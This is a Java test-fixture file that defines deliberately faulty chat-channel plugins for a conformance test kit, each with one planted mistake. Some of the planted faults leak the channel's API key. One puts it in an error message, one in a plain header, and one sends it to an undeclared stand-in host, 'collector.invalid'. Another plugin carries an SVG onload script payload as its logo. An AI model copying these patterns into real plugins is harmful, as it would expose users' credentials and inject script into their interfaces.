package io.patchbay.testkit.conformance;

import io.patchbay.spi.Balance;
import io.patchbay.spi.Bytes;
import io.patchbay.spi.Capability;
import io.patchbay.spi.ChannelDescriptor;
import io.patchbay.spi.ChannelType;
import io.patchbay.spi.ChannelView;
import io.patchbay.spi.Fault;
import io.patchbay.spi.FaultKind;
import io.patchbay.spi.Flow;
import io.patchbay.spi.Framing;
import io.patchbay.spi.Next;
import io.patchbay.spi.Offer;
import io.patchbay.spi.Reader;
import io.patchbay.spi.Text;
import io.patchbay.spi.Turn;
import io.patchbay.spi.chat.ChatCall;
import io.patchbay.spi.chat.ChatEvent;
import io.patchbay.spi.http.Answer;
import io.patchbay.spi.http.Body;
import io.patchbay.spi.http.HttpRequest;
import io.patchbay.spi.json.JsonObject;
import io.patchbay.spi.media.ImageCall;
import io.patchbay.spi.media.ImageEvent;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.ConcurrentHashMap;
import org.jspecify.annotations.Nullable;

/** Plugins with one mistake each. */
final class BadToys {
    private BadToys() {}

    private interface Toy extends ChannelType {
        @Override
        default ChannelDescriptor descriptor() {
            return ToyParts.DESCRIPTOR;
        }

        @Override
        default Offer offer(String model, ChannelView channel) {
            return ToyParts.OFFER;
        }
    }

    private static Next stream(ChatCall call, ChannelView channel, Reader reader) {
        return Next.stream(ToyParts.request(channel).body(ToyParts.body(call)).build(), Framing.NDJSON, reader);
    }

    /** Keeps the view of a frame until the next one. */
    static final class KeepsBytes implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                Reader good = new ReadingToy.Lines(turn);
                return stream(call, channel, new Reader() {
                    private @Nullable Bytes kept;

                    @Override
                    public Next on(String event, Bytes data) {
                        Bytes late = kept;
                        kept = data;
                        return late == null ? Next.more() : good.on(event, late);
                    }

                    @Override
                    public Next end() {
                        return good.on("", Objects.requireNonNull(kept));
                    }
                });
            };
        }
    }

    /** Has one reader for all calls. */
    static final class StaticState implements Toy {
        private static @Nullable Turn<ChatEvent> turn;

        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return own -> {
                turn = own;
                return stream(
                        call,
                        channel,
                        (event, data) -> new ReadingToy.Lines(Objects.requireNonNull(turn)).on(event, data));
            };
        }
    }

    /** Remembers the first key for good, in a map that looks harmless. */
    static final class SharedCache implements Toy {
        private static final ConcurrentHashMap<String, HttpRequest> CACHE = new ConcurrentHashMap<>();

        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> Next.stream(
                    CACHE.computeIfAbsent(
                            call.model(),
                            model -> ToyParts.request(channel)
                                    .body(ToyParts.body(call))
                                    .build()),
                    Framing.NDJSON,
                    new ReadingToy.Lines(turn));
        }
    }

    /** Remembers in the one object that serves all calls. */
    static final class Remembers implements Toy {
        private final Map<String, String> seen = new HashMap<>();
        private int calls;

        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            calls++;
            seen.put(call.model(), channel.name() + calls);
            return new ReadingToy().chat(call, channel);
        }
    }

    /** Takes every end for a good end. */
    static final class SwallowsTruncation implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                Reader good = new ReadingToy.Lines(turn);
                return stream(call, channel, new Reader() {
                    @Override
                    public Next on(String event, Bytes data) {
                        return good.on(event, data);
                    }

                    @Override
                    public Next end() {
                        turn.emit(new ChatEvent.Finish("stop"));
                        return Next.done();
                    }
                });
            };
        }
    }

    /** Starts a thread. */
    static final class StartsThread implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                new Thread(() -> {}).start();
                return stream(call, channel, new ReadingToy.Lines(turn));
            };
        }
    }

    /** Reads the wall clock. */
    static final class ReadsClock implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                turn.note("at", Instant.now().toString());
                return stream(call, channel, new ReadingToy.Lines(turn));
            };
        }
    }

    /** Tells the key in a fault. */
    static final class LeaksSecret implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                Reader good = new ReadingToy.Lines(turn);
                return stream(call, channel, new Reader() {
                    @Override
                    public Next on(String event, Bytes data) {
                        return good.on(event, data);
                    }

                    @Override
                    public Next refused(Answer answer) {
                        return Next.fail(answer.fault()
                                .withMessage(
                                        "refused for " + channel.secret("key").reveal()));
                    }
                });
            };
        }
    }

    /** Writes the key into a plain header. */
    static final class PlainSecret implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> Next.stream(
                    HttpRequest.post(channel.endpoint())
                            .header("x-key", channel.secret("key").reveal())
                            .body(ToyParts.body(call))
                            .build(),
                    Framing.NDJSON,
                    new ReadingToy.Lines(turn));
        }
    }

    /** Sends the key to a host nobody declared. */
    static final class SendsSecretElsewhere implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> Next.stream(
                    HttpRequest.post("https://collector.invalid/")
                            .header("x-key", channel.secret("key"))
                            .build(),
                    Framing.NDJSON,
                    new ReadingToy.Lines(turn));
        }
    }

    /** Throws when a line is no JSON. */
    static final class ThrowsOnNonsense implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                Reader good = new ReadingToy.Lines(turn);
                return stream(call, channel, (event, data) -> {
                    data.json();
                    return good.on(event, data);
                });
            };
        }
    }

    /** Believes that a text is a text and an end a number, wherever the vendor writes one. */
    static final class TrustsTypes implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                Reader good = new ReadingToy.Lines(turn);
                return stream(call, channel, (event, data) -> {
                    Next next = good.on(event, data);
                    if (next == Next.done()) {
                        Objects.requireNonNull(data.json().get("end").number());
                    }
                    return next;
                });
            };
        }
    }

    /** Leaves a field out and tells nobody. */
    static final class LosesFields implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                JsonObject question = ToyParts.question(call);
                JsonObject settings = question.get("settings").asObject().toBuilder()
                        .remove("temperature")
                        .remove("seed")
                        .build();
                turn.dropped(call.request().settings().has("seed") ? List.of("seed") : List.of());
                Body body =
                        Body.json(question.toBuilder().put("settings", settings).build());
                return Next.stream(
                        ToyParts.request(channel).body(body).build(), Framing.NDJSON, new ReadingToy.Lines(turn));
            };
        }
    }

    /** Takes refusals for answers. */
    static final class TakesRefusals implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                Reader good = new ReadingToy.Lines(turn);
                return stream(call, channel, new Reader() {
                    @Override
                    public Next on(String event, Bytes data) {
                        return good.on(event, data);
                    }

                    @Override
                    public Next refused(Answer answer) {
                        turn.emit(new ChatEvent.Text(answer.body().utf8()));
                        turn.emit(new ChatEvent.Finish("stop"));
                        return Next.done();
                    }
                });
            };
        }
    }

    /** Goes on after the end. */
    static final class NeverEnds implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> again(turn, call, channel);
        }

        private static Next again(Turn<ChatEvent> turn, ChatCall call, ChannelView channel) {
            return Next.ask(ToyParts.request(channel).build(), answer -> again(turn, call, channel));
        }
    }

    /** Needs the client's body. */
    static final class NeedsWire implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return turn -> {
                turn.note("members", Objects.requireNonNull(call.wire()).names().toString());
                return stream(call, channel, new ReadingToy.Lines(turn));
            };
        }
    }

    /** Makes images and tells balances although it does not say so. */
    static final class HidesTalents implements Toy {
        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return new ReadingToy().chat(call, channel);
        }

        @Override
        public Flow<ImageEvent> images(ImageCall call, ChannelView channel) {
            return turn -> Next.ask(ToyParts.request(channel).build(), answer -> Next.done());
        }

        @Override
        public Flow<Balance> balance(ChannelView channel) {
            return turn -> Next.ask(ToyParts.request(channel).build(), answer -> Next.done());
        }
    }

    /** Offers more than it can. */
    static final class Boasts implements Toy {
        @Override
        public Offer offer(String model, ChannelView channel) {
            return Offer.builder()
                    .capability(Capability.CHAT, Capability.TOOLS, Capability.VISION)
                    .build();
        }

        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return new ReadingToy().chat(call, channel);
        }
    }

    /** Has a logo that runs, and no Chinese. */
    static final class BadDescriptor implements Toy {
        @Override
        public ChannelDescriptor descriptor() {
            return ChannelDescriptor.builder("toy", Text.of("Toy"))
                    .defaultEndpoint("toy.invalid")
                    .logo("<svg onload=\"alert(1)\"></svg>")
                    .build();
        }

        @Override
        public Flow<ChatEvent> chat(ChatCall call, ChannelView channel) {
            return Flow.failed(Fault.of(FaultKind.CONFIG, "no"));
        }
    }
}
